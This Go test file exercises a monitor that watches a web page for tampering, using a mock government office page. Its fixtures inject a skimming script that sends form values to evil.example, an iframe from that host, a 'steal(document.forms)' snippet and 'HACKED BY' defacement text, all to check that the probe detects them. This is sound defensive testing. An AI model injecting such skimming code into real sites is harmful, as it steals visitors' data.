package probe

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

// office is a web server whose page and script a test writes.
type office struct {
	*httptest.Server
	mu           sync.Mutex
	page, script string
	etags        bool
	status       int
	load         int // loads of the page
	full         int // of these, with a body
	conns        int
}

func serveOffice(t *testing.T) *office {
	o := &office{page: officePage, script: "var menu = 1; open(menu);", etags: true, status: http.StatusOK}
	o.Server = httptest.NewUnstartedServer(o)
	o.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			o.mu.Lock()
			defer o.mu.Unlock()
			o.conns++
		}
	}
	o.Start()
	t.Cleanup(o.Close)
	return o
}

const officePage = `<html><head><title>Office</title><script src="/menu.js"></script></head><body><h1>Office</h1>
<ul class="news"><li>Tender one<li>Tender two<li>Tender three</ul><p id="lead">We serve the public.</p></body></html>`

func (o *office) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	o.mu.Lock()
	defer o.mu.Unlock()
	content := o.script
	if r.URL.Path == "/" {
		o.load++
		content = strings.ReplaceAll(o.page, "LOAD", fmt.Sprint(letters(o.load)))
	}
	if o.etags {
		tag := fmt.Sprintf(`"%x"`, hashString(1, content))
		w.Header().Set("ETag", tag)
		if r.Header.Get("If-None-Match") == tag {
			w.WriteHeader(http.StatusNotModified)
			return
		}
	}
	if r.URL.Path == "/" {
		o.full++
	}
	w.Header().Set("Content-Type", "text/html")
	w.WriteHeader(o.status)
	fmt.Fprint(w, content)
}

// letters make a word of a number: a number itself would be no change.
func letters(n int) string {
	word := ""
	for ; n > 0; n /= 26 {
		word += string(rune('a' + n%26))
	}
	return "word" + word
}

func (o *office) set(f func(*office)) {
	o.mu.Lock()
	defer o.mu.Unlock()
	f(o)
}

func officeDesk(t *testing.T) (*desk, *office) {
	o := serveOffice(t)
	return newDesk(t, Target{ID: "office", URL: o.URL + "/"}), o
}

// What did not change is not sent again, and one connection is kept; now and then the
// page is read whatever the server says of it, over a connection of its own.
func TestConditional(t *testing.T) {
	d, o := officeDesk(t)
	for range 10 {
		d.minute()
	}
	if o.load != 10 || o.full != 1+10/freshBeat {
		t.Errorf("%d loads, %d of them in full; want 10 and %d", o.load, o.full, 1+10/freshBeat)
	}
	if o.conns > 1+10/freshBeat {
		t.Errorf("%d connections for 10 rounds, want %d", o.conns, 1+10/freshBeat)
	}
}

// The page's own script is looked after: a change is suspected within four rounds,
// although no byte of the page differs.
func TestScriptOfItsOwn(t *testing.T) {
	for _, etags := range []bool{true, false} {
		d, o := officeDesk(t)
		o.set(func(o *office) { o.etags = etags })
		d.learn()
		o.set(func(o *office) { o.script += ";new Image().src='//evil.example/'+document.forms[0].value" })
		for range fileBeats {
			d.minute()
		}
		if why := strings.Join(d.suspects["office"], "; "); !strings.Contains(why, "changed file") || !strings.Contains(why, "/menu.js") {
			t.Errorf("entity tags %v: suspected for %q, want the changed script", etags, why)
		}
		d.good()
		for range fileBeats {
			d.minute()
		}
		if d.suspects["office"] != nil {
			t.Errorf("entity tags %v: suspected for %q although a browser cleared it", etags, d.suspects["office"])
		}
	}
}

// What a browser found wrong is not learnt: it is not asked for again and again while
// it stays, it is when the page is back, and the next time all the same.
func TestAttackIsNotLearnt(t *testing.T) {
	d, o := officeDesk(t)
	d.learn()
	for range 3 {
		before := d.all
		o.set(func(o *office) {
			o.page = strings.Replace(officePage, "We serve", `<iframe src="//evil.example/x"></iframe>We serve`, 1)
		})
		d.minute()
		if d.all != before+1 {
			t.Fatalf("%d suspicions of an attack, want one", d.all-before)
		}
		d.clock.move(10 * time.Second)
		d.Conclude("office", d.clock.time(), Bad)
		for range 60 {
			d.minute()
		}
		if d.all != before+1 {
			t.Errorf("%d suspicions of what a browser knows", d.all-before-1)
		}
		o.set(func(o *office) { o.page = officePage })
		d.minute()
		if d.all != before+2 {
			t.Errorf("%d suspicions when the page is back, want one", d.all-before-1)
		}
		d.good()
		d.clock.move(quietFor + time.Minute)
	}
}

// A look that began before the probe saw the page does not vouch for it.
func TestLookOfBefore(t *testing.T) {
	d, o := officeDesk(t)
	d.learn()
	began := d.clock.time()
	o.set(func(o *office) { o.page = strings.Replace(officePage, "We serve", "HACKED. We serve", 1) })
	d.minute()
	if d.all != 1 {
		t.Fatalf("%d suspicions, want one", d.all)
	}
	d.Conclude("office", began, Good)
	d.minute()
	if d.all != 2 {
		t.Errorf("a look that began before cleared the page: %d suspicions, want two", d.all)
	}
}

// A look that saw nothing clears nothing, whenever it began: the page is asked for
// again. One that saw the page as it is, and knows it, is answer enough.
func TestLookThatSawNothing(t *testing.T) {
	for _, c := range []struct {
		name   string
		v      Verdict
		began  time.Duration // after the probe asked
		within int           // minutes until it asks again, 0 for never
	}{
		{"began before, could not be compared", Unseen, -30 * time.Second, 1},
		{"began before, knows the page", Known, -30 * time.Second, 1},
		{"began before, found something", Bad, -30 * time.Second, 1},
		{"could not be compared", Unseen, 10 * time.Second, 2},
		{"knows the page", Known, 10 * time.Second, 0},
		{"found something", Bad, 10 * time.Second, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			d, o := officeDesk(t)
			d.learn()
			o.set(func(o *office) {
				o.page = strings.Replace(officePage, "We serve", "<script>steal(document.forms)</script>We serve", 1)
			})
			d.minute()
			if d.all != 1 {
				t.Fatalf("%d suspicions, want one", d.all)
			}
			d.Conclude("office", d.clock.time().Add(c.began), c.v)
			for minute := 1; minute <= 10; minute++ {
				d.minute()
				if again := d.all > 1; again != (c.within != 0 && minute >= c.within) {
					t.Fatalf("minute %d: asked again is %v, want it in minute %d", minute, again, c.within)
				}
			}
		})
	}
}

// A headline that changed a moment ago hides no script behind it, nor a headline of
// a crew's.
func TestGraveBehindLively(t *testing.T) {
	for name, page := range map[string]string{
		"script":   strings.Replace(officePage, "We serve", "<script>steal(document.forms)</script>We serve", 1),
		"headline": strings.Replace(officePage, "We serve the public.", "HACKED BY GR3Y L4NTERN CREW, your security is zero", 1),
		"page":     "<html><title>.</title><body>.",
	} {
		t.Run(name, func(t *testing.T) {
			d, o := officeDesk(t)
			d.learn()
			for i := range 3 {
				o.set(func(o *office) { o.page = strings.Replace(officePage, "Tender two", "Tender "+letters(i), 1) })
				d.minute()
				d.good()
			}
			before := d.all
			o.set(func(o *office) { o.page = page })
			d.minute()
			if d.all != before+1 {
				t.Errorf("%d suspicions at once, want one", d.all-before)
			}
		})
	}
}

// A page that is another at each load is asked for a few times and then known as one
// that is; what is new elsewhere on it, or a link to a stranger, is seen still.
func TestPageThatNeverStands(t *testing.T) {
	d, o := officeDesk(t)
	d.learn()
	o.set(func(o *office) { o.page = strings.Replace(officePage, "Tender two", "LOAD and more", 1) })
	for range 120 {
		d.minute()
		if len(d.suspects) > 0 {
			d.good()
		}
	}
	if d.all == 0 || d.all > 5 {
		t.Errorf("%d suspicions in two hours of a page with a ticker, want a few", d.all)
	}
	for _, c := range []string{
		strings.Replace(o.page, "We serve", "We do not serve", 1),
		strings.Replace(o.page, "LOAD", `<a href="https://casino.example/">LOAD</a>`, 1),
		strings.Replace(o.page, "LOAD", "HACKED BY GR3Y L4NTERN CREW, your security is zero", 1),
	} {
		before, whole := d.all, o.page
		d.clock.move(quietFor + time.Minute)
		o.set(func(o *office) { o.page = c })
		d.minute()
		if d.all != before+1 {
			t.Errorf("not seen on a lively page: %s", c)
		}
		o.set(func(o *office) { o.page = whole })
		d.Conclude("office", d.clock.time().Add(time.Second), Bad)
		d.minute()
		d.good()
	}
}

// One page that changes all the time is damped, and all of them together are.
func TestDamping(t *testing.T) {
	now := time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)
	var one damper
	asked := 0
	for at := now; at.Before(now.Add(24 * time.Hour)); at = at.Add(time.Minute) {
		if one.ready(at) {
			one.asked(at)
			asked++
		}
	}
	if asked < 90 || asked > 101 {
		t.Errorf("asked %d times in a day, want every quarter of an hour", asked)
	}
	var all bucket
	passed := 0
	for range 1527 {
		if all.take(now) {
			passed++
		}
	}
	if passed != burst {
		t.Errorf("%d of 1,527 at once, want %d", passed, burst)
	}
	if !all.take(now.Add(refill)) || all.take(now.Add(refill)) {
		t.Error("want one more after a second, and no more than one")
	}
	if !all.take(now.Add(-time.Hour)) {
		t.Error("a clock that was set back holds suspicions up")
	}
}

// A fingerprint that was kept is in use from the first probe on; one that cannot be
// read is none.
func TestRestore(t *testing.T) {
	d, o := officeDesk(t)
	d.learn()
	changed, err := d.Changed()
	if err != nil || len(changed["office"]) == 0 {
		t.Fatalf("kept %v, %v", changed, err)
	}
	if again, err := d.Changed(); err != nil || len(again) != 0 {
		t.Errorf("kept twice: %v, %v", again, err)
	}
	for _, c := range []struct {
		data  []byte
		armed int
	}{{changed["office"], 1}, {changed["office"][:20], 0}, {[]byte("junk"), 0}, {nil, 0}} {
		next := newDesk(t, Target{ID: "office", URL: o.URL + "/"})
		next.Restore("office", c.data)
		next.minute()
		if next.Stats().Armed != c.armed || next.all != 0 {
			t.Errorf("from %d bytes: %+v and %d suspicions", len(c.data), next.Stats(), next.all)
		}
	}
}

// A suspicion that cannot be told is told at the next probe.
func TestSuspicionIsToldAgain(t *testing.T) {
	d, o := officeDesk(t)
	d.learn()
	suspect := d.Suspect
	d.Suspect = func(context.Context, Suspicion) (bool, error) { return false, errors.New("no database") }
	o.set(func(o *office) { o.page = "<h1>gone</h1>" })
	d.minute()
	d.Suspect = suspect
	d.minute()
	if d.all != 1 {
		t.Errorf("%d suspicions, want one", d.all)
	}
}

// A server that refuses us is asked less and less, one that is down every minute.
func TestPlan(t *testing.T) {
	d, _ := officeDesk(t)
	w := d.find("office")
	wait := func(a answer, streak int) time.Duration {
		w.streak, w.next = streak, d.clock.time()
		d.plan(w, a, true)
		return w.next.Sub(d.clock.time())
	}
	for _, c := range []struct {
		a      answer
		streak int
		want   time.Duration
	}{
		{answer{outcome: Answered}, 0, time.Minute}, {answer{outcome: Down}, 50, time.Minute}, {answer{outcome: Gone}, 50, 5 * time.Minute},
		{answer{outcome: Refused}, 1, 2 * time.Minute}, {answer{outcome: Refused}, 50, 32 * time.Minute},
		{answer{outcome: Refused, retryIn: time.Hour}, 1, time.Hour}, {answer{outcome: Answered, retryIn: 10 * time.Minute}, 0, 10 * time.Minute},
	} {
		if got := wait(c.a, c.streak); got != c.want {
			t.Errorf("%s for %d times waits %v, want %v", c.a.outcome, c.streak, got, c.want)
		}
	}
}
